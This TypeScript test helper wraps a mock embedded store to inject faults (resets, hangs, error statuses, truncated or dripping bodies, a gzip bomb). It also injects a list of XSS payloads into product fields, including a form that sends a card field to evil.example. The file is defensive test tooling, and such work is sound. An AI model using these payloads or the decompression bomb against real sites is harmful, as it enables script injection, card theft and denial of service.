import { once } from "node:events";
import { Readable } from "node:stream";
import { setTimeout as wait } from "node:timers/promises";

import { json } from "../../app/embedded-store/calls";
import type { ServedProduct } from "../../app/embedded-store/catalogue";
import {
  createEmbeddedStore,
  type EmbeddedStore,
  type EmbeddedStoreOptions,
} from "../../app/embedded-store/index.server";

/** One fault: the calls it applies to (the first `times`, by default all) and its effect. */
export type FaultRule = {
  match: "products" | "product" | "variants" | "checkout" | "any";
  times?: number;
  delay?: number; // ms before anything else
  reset?: true | "after"; // 'after': the call is processed, but its response is lost
  hang?: true; // no headers, until the request is aborted
  redirect?: string;
  html?: string; // status 200, text/html
  status?: number; // with `body` as JSON, else the service's error shape
  retryAfter?: string; // the header, together with `status`
  body?: unknown; // status 200
  huge?: number; // bytes of valid JSON
  gzipBomb?: number; // bytes after decompression
  brokenJson?: true; // the first half of the body, as a complete response
  stall?: true; // the first half, then nothing
  drip?: number; // ms between pieces of 16 bytes
  stock?: Record<string, number>; // variant id to quantity; makes the stock managed
  removed?: string[]; // product and variant ids
  hostile?: string; // product id: hostile HTML in title and texts
  patch?: { productId: string; fields: Record<string, unknown> };
};

const hostileHtml = [
  "<script>window.pwned=1</script>",
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<a href="javascript:window.pwned=1">link</a>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<form action="https://evil.example"><input name="card"></form>',
  "<style>body{display:none}</style></script><!--",
].join("");

const connectionReset = () =>
  new TypeError("fetch failed", {
    cause: Object.assign(new Error("read ECONNRESET"), { code: "ECONNRESET" }),
  });

/** In process, this error stands for a reset connection; over HTTP, the socket is destroyed. */
export const isConnectionReset = (error: unknown): boolean =>
  error instanceof TypeError &&
  (error.cause as { code?: string } | undefined)?.code === "ECONNRESET";

async function untilAborted({ signal }: Request): Promise<never> {
  if (!signal.aborted) await once(signal, "abort");
  throw new Error("The request was aborted");
}

const pause = (ms: number, { signal }: Request) => wait(ms, undefined, { signal });

/** Valid JSON: an empty product list with padding. */
function* padded(bytes: number) {
  yield Buffer.from('{"count":0,"products":[],"padding":"');
  const block = Buffer.alloc(65_536, "x");
  for (let left = bytes; left > 0; left -= block.length) yield block;
  yield Buffer.from('"}');
}

async function* halfOf(whole: Buffer, request: Request) {
  yield whole.subarray(0, whole.length / 2);
  await untilAborted(request);
}

async function* inDrops(whole: Buffer, ms: number, request: Request) {
  for (let at = 0; at < whole.length; at += 16) {
    await pause(ms, request);
    yield whole.subarray(at, at + 16);
  }
}

/** A body that is generated while it is read. */
const bodyOf = (pieces: Iterable<Buffer> | AsyncIterable<Buffer>) =>
  Readable.toWeb(Readable.from(pieces, { objectMode: false })) as ReadableStream<BufferSource>;

type Genuine = () => Promise<Response> | Response;
type Scene = { rule: FaultRule; request: Request; genuine: Genuine };
type Effect = (scene: Scene) => Promise<Response> | Response;

const headers = { "Content-Type": "application/json; charset=utf-8" };
const bytesOf = async (answer: Response) => Buffer.from(await answer.arrayBuffer());

const effects: { [Name in keyof FaultRule]?: Effect } = {
  reset: async ({ rule, genuine }) => {
    if (rule.reset === "after") await genuine();
    throw connectionReset();
  },
  hang: ({ request }) => untilAborted(request),
  redirect: ({ rule }) =>
    new Response(null, { status: 302, headers: { Location: rule.redirect ?? "/" } }),
  html: ({ rule }) =>
    new Response(rule.html, { headers: { "Content-Type": "text/html; charset=utf-8" } }),
  status: ({
    rule: {
      status = 500,
      body = { code: "unknown_error", type: "unknown_error", message: "Fault" },
      retryAfter,
    },
  }) => {
    const isEmpty = [204, 205, 304].includes(status);
    const answer = isEmpty ? new Response(null, { status }) : json(body, status);
    if (retryAfter !== undefined) answer.headers.set("Retry-After", retryAfter);
    return answer;
  },
  body: ({ rule }) => json(rule.body),
  huge: ({ rule }) => new Response(bodyOf(padded(rule.huge ?? 0)), { headers }),
  gzipBomb: ({ rule }) => {
    const zipped = bodyOf(padded(rule.gzipBomb ?? 0)).pipeThrough(new CompressionStream("gzip"));
    return new Response(zipped, { headers: { ...headers, "Content-Encoding": "gzip" } });
  },
  brokenJson: async ({ genuine }) => {
    const whole = await bytesOf(await genuine());
    return new Response(new Uint8Array(whole.subarray(0, whole.length / 2)), { headers });
  },
  stall: async ({ request, genuine }) =>
    new Response(bodyOf(halfOf(await bytesOf(await genuine()), request)), { headers }),
  drip: async ({ rule, request, genuine }) => {
    const whole = await bytesOf(await genuine());
    return new Response(bodyOf(inDrops(whole, rule.drip ?? 1, request)), { headers });
  },
};

/** Delays add up; of the rules with a response of their own, the first answers. */
async function answerUnderFaults(
  rules: FaultRule[],
  request: Request,
  genuine: Genuine,
): Promise<Response> {
  for (const { delay } of rules) if (delay) await pause(delay, request);
  for (const rule of rules) {
    const name = (Object.keys(effects) as (keyof FaultRule)[]).find(
      (effect) => rule[effect] !== undefined,
    );
    if (name) return effects[name]!({ rule, request, genuine });
  }
  return genuine();
}

function changedProduct(product: ServedProduct, { removed = [], stock = {}, hostile }: FaultRule) {
  const variants = product.variants
    .filter(({ id }) => !removed.includes(id))
    .map((variant) => {
      const inventory_quantity = stock[variant.id];
      if (inventory_quantity === undefined) return variant;
      return { ...variant, manage_inventory: true, inventory_quantity };
    });
  if (product.id !== hostile) return { ...product, variants };
  return {
    ...product,
    variants,
    title: hostileHtml,
    subtitle: hostileHtml,
    description: `<p>Before</p>${hostileHtml}`,
    additional_info: product.additional_info.map((info) => ({ ...info, description: hostileHtml })),
  };
}

function changedCatalogue(products: ServedProduct[], rules: FaultRule[]): ServedProduct[] {
  let changed = products;
  for (const rule of rules)
    changed = changed
      .filter(({ id }) => !rule.removed?.includes(id))
      .map((product) => changedProduct(product, rule));
  // Patches come last, because they may break a product's shape.
  for (const { patch } of rules)
    changed = changed.map((product) =>
      product.id === patch?.productId ? { ...product, ...patch.fields } : product,
    );
  return changed;
}

export type FaultyStore = ReturnType<typeof createFaultyStore>;

const calls: [name: FaultRule["match"], method: string, path: RegExp][] = [
  ["products", "GET", /^\/store\/[^/]+\/products$/],
  ["product", "GET", /^\/store\/[^/]+\/products\/[^/]+$/],
  ["variants", "GET", /^\/store\/[^/]+\/variants$/],
  ["checkout", "POST", /^\/store\/[^/]+\/checkout$/],
];

/** The embedded store with injected faults; `handle` rejects if a fault resets the connection. */
export function createFaultyStore(options: EmbeddedStoreOptions) {
  const checkoutPath = new URL(options.checkoutUrl).pathname;
  let store: EmbeddedStore = createEmbeddedStore(options);
  let faults: FaultRule[] = [];
  let met = new WeakMap<FaultRule, number>();

  function callOf({ method, url }: Request): FaultRule["match"] | undefined {
    const { pathname } = new URL(url);
    const isCheckoutPage = pathname === checkoutPath || pathname.startsWith(`${checkoutPath}/`);
    const call = calls.find(([, verb, path]) => verb === method && path.test(pathname));
    return call?.[0] ?? (isCheckoutPage ? "any" : undefined);
  }

  function rulesFor(name: FaultRule["match"] | undefined): FaultRule[] {
    const rules = faults.filter(
      (rule) =>
        name !== undefined &&
        (rule.match === "any" || rule.match === name) &&
        (met.get(rule) ?? 0) < (rule.times ?? Infinity),
    );
    for (const rule of rules) met.set(rule, (met.get(rule) ?? 0) + 1);
    return rules;
  }

  return {
    handle(request: Request): Promise<Response> {
      const name = callOf(request);
      const rules = rulesFor(name);
      return answerUnderFaults(rules, request, () =>
        store.handle(request, (products) => changedCatalogue(products, rules)),
      );
    },
    /** Resets everything: full stock, no payments, no idempotency keys, no faults. */
    reset() {
      store = createEmbeddedStore(options);
      this.faults = [];
    },
    get faults() {
      return faults;
    },
    /** The active rules; they count their `times` anew. */
    set faults(rules: FaultRule[]) {
      faults = rules;
      met = new WeakMap();
    },
  };
}
